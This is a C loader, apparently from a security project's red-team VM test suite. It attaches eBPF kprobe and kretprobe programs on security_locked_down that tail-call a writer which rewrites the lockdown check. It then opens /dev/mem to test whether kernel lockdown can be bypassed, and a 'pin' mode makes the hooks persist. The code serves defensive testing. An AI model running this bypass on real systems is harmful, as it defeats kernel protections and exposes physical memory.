// SPDX-License-Identifier: GPL-2.0
/*
 * ktail.c - `ratchet-ktail`: load ktail.bpf.c, put ktail_write (writes
 * the context) into the program array, attach ktail_entry and ktail_return
 * (which tail-call it) on security_locked_down, then open /dev/mem as rt-devmem. For
 * tests/vm/attacks/rt-ktail.sh, in a test VM only. Prints each step; exit
 * 0 /dev/mem opened, 1 a step refused, 2 other. `ratchet-ktail pin`
 * attaches and pins instead (below); `ratchet-ktail open` only opens
 * /dev/mem as rt-devmem.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include "attack-ktail.skel.h"

static int step(const char *what, int err)
{
	printf("ktail: %s: %s\n", what, err ? strerror(err) : "ok");
	if (!err)
		return 0;
	return err == EPERM || err == EACCES || err == ENOENT || err == EINVAL
		       ? 1
		       : 2;
}

/* Open /dev/mem as rt-devmem, the name ktail_write rewrites for. */
static int open_devmem(void)
{
	int fd;

	prctl(PR_SET_NAME, "rt-devmem");
	fd = open("/dev/mem", O_RDONLY);
	if (fd < 0)
		return step("open /dev/mem as rt-devmem", errno);
	close(fd);
	return step("open /dev/mem as rt-devmem", 0);
}

/*
 * pin (red team 2, rt2-ktail-before.sh): the kprobe and kretprobe links
 * and the program array pinned under /sys/fs/bpf/rt2-ktail-*, so that
 * they outlive this process (a program array is emptied when its last
 * user reference goes: prog_array_map_clear()).
 */
static int pin_all(struct attack_ktail *k, struct bpf_link *e,
		   struct bpf_link *r)
{
	if (bpf_link__pin(e, "/sys/fs/bpf/rt2-ktail-entry") ||
	    bpf_link__pin(r, "/sys/fs/bpf/rt2-ktail-return") ||
	    bpf_map__pin(k->maps.jmp, "/sys/fs/bpf/rt2-ktail-jmp"))
		return step("pin under /sys/fs/bpf/rt2-ktail-*", errno);
	return step("links and program array pinned", 0);
}

int main(int argc, char **argv)
{
	struct attack_ktail *k;
	struct bpf_link *l, *e;
	__u32 zero = 0;
	int fd, w;

	if (argc > 1 && !strcmp(argv[1], "open"))
		return open_devmem();
	k = attack_ktail__open();
	if (!k)
		return step("open", errno);
	if (attack_ktail__load(k))
		return step("load the programs", errno);
	w = bpf_program__fd(k->progs.ktail_write);
	if (bpf_map_update_elem(bpf_map__fd(k->maps.jmp), &zero, &w, 0))
		return step("put the writer into the program array", errno);
	w = bpf_program__fd(k->progs.ktail_mwrite);
	if (bpf_map_update_elem(bpf_map__fd(k->maps.jmpm), &zero, &w, 0))
		return step("put the multi writer into its program array",
			    errno);
	if (argc > 1 && !strcmp(argv[1], "multi")) {
		l = bpf_program__attach(k->progs.ktail_mreturn);
		if (!l)
			return step(
				"attach kretprobe.multi on security_locked_down",
				errno);
		goto attached;
	}
	e = bpf_program__attach(k->progs.ktail_entry);
	if (!e)
		return step("attach the entry on security_locked_down", errno);
	l = bpf_program__attach(k->progs.ktail_return);
	if (!l)
		return step("attach the return probe on security_locked_down",
			    errno);
	if (argc > 1 && !strcmp(argv[1], "pin"))
		return pin_all(k, e, l);
attached:
	step("kprobe and kretprobe attached, writer in their program array", 0);
	prctl(PR_SET_NAME, "rt-devmem");
	fd = open("/dev/mem", O_RDONLY);
	printf("ktail: entry ran %llu times, writer wrote %llu times\n",
	       (unsigned long long)k->bss->entered,
	       (unsigned long long)k->bss->wrote);
	if (fd < 0)
		return step("open /dev/mem as rt-devmem", errno);
	close(fd);
	return step("open /dev/mem as rt-devmem", 0);
}
